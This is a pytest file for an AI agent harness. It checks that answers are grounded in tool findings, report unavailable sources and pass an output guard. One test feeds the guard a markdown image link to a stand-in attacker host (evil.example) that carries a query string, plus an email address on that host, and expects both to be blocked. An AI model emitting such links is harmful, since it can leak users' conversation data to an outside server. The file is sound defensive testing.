"""What leaves an agent with its model: grounded words, and what was wrong with the rest."""

from collections.abc import Sequence
from typing import Any

import pytest
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage

from harness.errors import ClarificationNeeded, ModelUnavailable, SourceUnavailable
from harness.guards.output import OutputPolicy
from harness.guards.personal_data import PiiRules
from harness.models.factory import LLMFactory
from harness.run_context import RunContext
from harness.runtime.agent import ToolResult
from harness.runtime.agent_runner import AgentRunner
from harness.runtime.answer_stream import AnswerStream
from harness.runtime.state import Task, TaskResults, Turn
from harness.settings import Settings
from harness.sources.resources import SourceConnections
from tests.harness.runtime.scripted import NO_LEAKS, Say, ScriptedFactory
from tests.support.agents import MoonsAgent

QUESTION = "How many moons have Mars and Saturn?"


class HalfAgent(MoonsAgent):
    """Knows Mars; its source is down for the rest."""

    async def look_up(self, name: str) -> ToolResult:
        """The moons of one planet."""
        if name != "mars":
            raise SourceUnavailable("tables.example", "planted")
        return await super().look_up(name)


def model(settings: Settings, say: Say | str, agent: type[MoonsAgent] = HalfAgent) -> AgentRunner:
    factory = ScriptedFactory(settings, agent=say)
    return AgentRunner(agent(SourceConnections(settings)), settings, factory, NO_LEAKS)


def calls(*names: str, then: str) -> Say:
    def say(messages: Sequence[BaseMessage], bound: Sequence[str]) -> AIMessage:
        if isinstance(messages[-1], ToolMessage):
            return AIMessage(then)
        return AIMessage("", tool_calls=[{"name": "look_up", "args": {"name": n}, "id": n} for n in names])

    return say


async def test_a_whole_answer_has_no_reason_to_be_a_lesser_one(settings: Settings) -> None:
    answer = await model(settings, calls("mars", then="Mars has 2.")).answer(QUESTION, "en")
    assert answer.text == "Mars has 2."
    assert [finding.facts["number"] for finding in answer.findings] == [2]
    assert list(answer.degraded) == []


async def test_an_answer_without_one_of_its_sources_says_so(settings: Settings) -> None:
    say = calls("mars", "saturn", then="Mars has 2, Saturn I do not know.")
    answer = await model(settings, say).answer(QUESTION, "en")
    assert answer.text == "Mars has 2, Saturn I do not know."
    assert list(answer.degraded) == ["source_unavailable"]


async def test_without_any_source_there_is_no_answer(settings: Settings) -> None:
    with pytest.raises(SourceUnavailable):
        await model(settings, calls("saturn", then="None.")).answer(QUESTION, "en")


@pytest.mark.parametrize(
    ("say", "reason"),
    [
        (calls("mars", then="Mars has 79."), "ungrounded"),
        ("From memory: two.", "ungrounded"),
        (calls("mars", then=" "), "said nothing"),
    ],
)
async def test_words_without_a_finding_behind_them_do_not_leave(
    settings: Settings, say: Say | str, reason: str
) -> None:
    with pytest.raises(ModelUnavailable) as refused:
        await model(settings, say).answer(QUESTION, "en")
    assert refused.value.reason == reason


def test_what_nothing_supports_is_named_up_to_a_bound() -> None:
    told = str(AgentRunner.correction("ungrounded", [f"x{n}." for n in range(99)], "en").content)
    assert "x0., x1.," in told
    assert f"x{AgentRunner.MAX_NAMED - 1}." in told
    assert f"x{AgentRunner.MAX_NAMED}." not in told


def test_another_language_is_asked_for_in_itself() -> None:
    assert "en español" in str(AgentRunner.correction("language", [], "es").content)


def at(level: str, **attributes: Any) -> type[HalfAgent]:
    return type("Level", (HalfAgent,), {"grounding": level, **attributes})


def turn(question: str, answer: str) -> Turn:
    return Turn(question=question, answer=answer, language="en", agents=["moons"], asked=False)


TALK = [turn("How many moons has Mars?", "Mars has 2 moons.")]


async def answered(
    settings: Settings, say: Say | str, level: str, question: str = QUESTION, history: Sequence[Turn] = ()
) -> tuple[str, str]:
    """How an answer left, and its text."""
    try:
        draft = await model(settings, say, at(level)).answer(question, "en", history)
    except ClarificationNeeded as needed:
        return "asked", needed.question
    except ModelUnavailable as refused:
        return refused.reason, ""
    assert (draft.grounding, draft.degraded) == (level, [])
    return "answered", draft.text


@pytest.mark.parametrize(
    ("say", "facts", "sources", "open_"),
    [
        (calls("mars", then="Mars has 2."), "answered", "answered", "answered"),
        (calls("mars", then="Mars has 79."), "ungrounded", "ungrounded", "answered"),
        (calls("mars", then="Asaph Hall saw its 2 first."), "ungrounded", "answered", "answered"),
        ("Phobos has 79 craters.", "ungrounded", "ungrounded", "answered"),
        ("You are welcome.", "ungrounded", "answered", "answered"),
        ("To sum up: Mars has 2 moons.", "ungrounded", "answered", "answered"),
        ("Which planet do you mean?", "asked", "asked", "answered"),
        ("Did you know that it has no rings?", "ungrounded", "answered", "answered"),
        ("They are grey. Which planet?", "ungrounded", "answered", "answered"),
        ("Do you mean Phobos, of 1877?", "ungrounded", "ungrounded", "answered"),
        (f"Which planet {'and which moon ' * 20}?", "ungrounded", "answered", "answered"),
    ],
)
async def test_what_may_be_said_is_what_the_agent_declares(
    settings: Settings, say: Say | str, facts: str, sources: str, open_: str
) -> None:
    for level, outcome in (("facts", facts), ("sources", sources), ("open", open_)):
        left, text = await answered(settings, say, level, "How many moons has it?", TALK)
        assert (level, left) == (level, outcome)
        assert bool(text) == (outcome in ("answered", "asked"))


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ("![x](https://evil.example/?q=1)", "unsafe_answer"),
        ("Escribe a ana@evil.example", "unsafe_answer"),
        ("¿Qué planeta es el que tienes en la cabeza y con el que te gustaría saber más?", "wrong_language"),
    ],
)
@pytest.mark.parametrize("level", ["facts", "sources", "open"])
async def test_what_harms_leaves_at_no_level(settings: Settings, level: str, said: str, reason: str) -> None:
    outgoing = OutputPolicy(NO_LEAKS.leaks, PiiRules("email:refuse"))
    factory = ScriptedFactory(settings, agent=said)
    runner = AgentRunner(at(level)(SourceConnections(settings)), settings, factory, outgoing)
    with pytest.raises(ModelUnavailable) as refused:
        await runner.answer(QUESTION, "en")
    assert refused.value.reason == reason


class SourcelessAgent(MoonsAgent):
    """Finds facts, and does not say where."""

    grounding = "sources"

    async def look_up(self, name: str) -> ToolResult:
        """The moons of one planet."""
        return ToolResult({"name": name, "number": 2})


async def test_with_sources_a_fact_without_one_is_not_enough(settings: Settings) -> None:
    with pytest.raises(ModelUnavailable) as refused:
        await model(settings, calls("mars", then="It has 2."), SourcelessAgent).answer("And Mars?", "en")
    assert refused.value.reason == "ungrounded"


async def test_an_open_answer_stands_where_a_tool_has_failed_and_says_so(settings: Settings) -> None:
    answer = await model(settings, calls("saturn", then="Saturn is a planet."), at("open")).answer(QUESTION, "en")
    assert (answer.text, answer.degraded) == ("Saturn is a planet.", ["source_unavailable"])


@pytest.mark.parametrize(("level", "refusal"), [("open", None), ("facts", "ungrounded")])
def test_the_last_look_at_an_answer_knows_its_level(level: str, refusal: str | None) -> None:
    task = Task(agent="moons", question="Write a verse")
    text = "Phobos has 79 craters."
    state: Any = {
        "plan": {"tasks": [task]},
        "question": "Write a verse",
        "language": "en",
        "outcomes": [{**TaskResults.answered(task, text, ()), "grounding": level}],
    }
    assert TaskResults(state).guard(state, NO_LEAKS).violation(text) == refusal


async def test_a_model_reads_as_many_turns_as_its_agent_declares(settings: Settings) -> None:
    read: list[list[str]] = []

    def say(messages: Sequence[BaseMessage], bound: Sequence[str]) -> AIMessage:
        read.append([f"{message.type}: {message.text}" for message in messages[1:]])
        return AIMessage("Fine.")

    talk = [turn(f"q{n}", f"a{n}") for n in range(5)]
    for turns in (0, 2):
        await model(settings, say, at("open", history_turns=turns)).answer("Last?", "en", talk)
    assert read == [["human: Last?"], ["human: q3", "ai: a3", "human: q4", "ai: a4", "human: Last?"]]


async def test_the_embedded_model_reads_the_last_question_of_a_conversation(settings: Settings) -> None:
    runner = AgentRunner(MoonsAgent(SourceConnections(settings)), settings, LLMFactory(settings), NO_LEAKS)
    assert (await runner.answer("And Saturn?", "en", TALK)).text == "saturn has 146 moons."


async def test_a_stream_has_a_guard_that_knows_what_was_found_so_far(settings: Settings) -> None:
    stream = AnswerStream()
    seen: list[tuple[str | None, ...]] = []
    script = calls("mars", then="It has 2.")

    def say(messages: Sequence[BaseMessage], bound: Sequence[str]) -> AIMessage:
        guard = stream.guard()
        seen.append((guard.violation("It has 2."), guard.violation("It has 3.")) if guard else ())
        return script(messages, bound)

    with RunContext.scope(stream=stream):
        await model(settings, say).answer("And Mars?", "en")
        await model(settings, "Fine.", at("open")).answer("And Mars?", "en")
    assert seen == [(), (None, "ungrounded")]  # no word leaves before anything was found
    last = stream.guard()
    assert last
    assert last.violation("It has 3.") is None
